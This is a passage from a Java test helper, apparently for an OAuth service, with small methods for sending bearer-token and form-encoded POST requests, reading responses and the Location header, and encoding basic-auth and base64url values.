			.header("Authorization", "Bearer " + bearer)
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers.ofString(json))
			.build());
	}

	private static Http form(String path, String authorization, String body) throws Exception {
		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path))
			.timeout(Duration.ofSeconds(60))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString(body));
		if (authorization != null) {
			request.header("Authorization", authorization);
		}
		return http(request.build());
	}

	private static Http http(HttpRequest request) throws Exception {
		HttpResponse<String> response = BROWSER.send(request, HttpResponse.BodyHandlers.ofString());
		return new Http(response.statusCode(), response.body(), response.headers().firstValue("Location").orElse(""));
	}

	private static String basic(String clientId, String secret) {
		return TestOAuth.basic(clientId, secret);
	}

	private static String b64(byte[] bytes) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
